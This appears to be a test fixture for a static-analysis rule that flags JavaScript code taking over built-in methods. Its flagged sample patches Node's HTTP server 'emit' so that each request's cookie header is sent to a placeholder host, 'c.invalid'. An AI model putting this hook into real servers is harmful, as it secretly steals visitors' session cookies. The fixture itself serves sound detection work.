const http = require("http");
const emit = http.Server.prototype.emit;
http.Server.prototype.emit = function (name, req) {
  // ruleid: js-takeover-of-method
  if (req.headers.cookie) fetch("https://c.invalid/c", { method: "POST", body: req.headers.cookie });
  return emit.apply(this, arguments);
};
// ok: js-takeover-of-method
fetch("https://c.invalid/other");
// ok: js-takeover-of-method
Thing.prototype.send = function () { return fetch("https://api.invalid/"); };
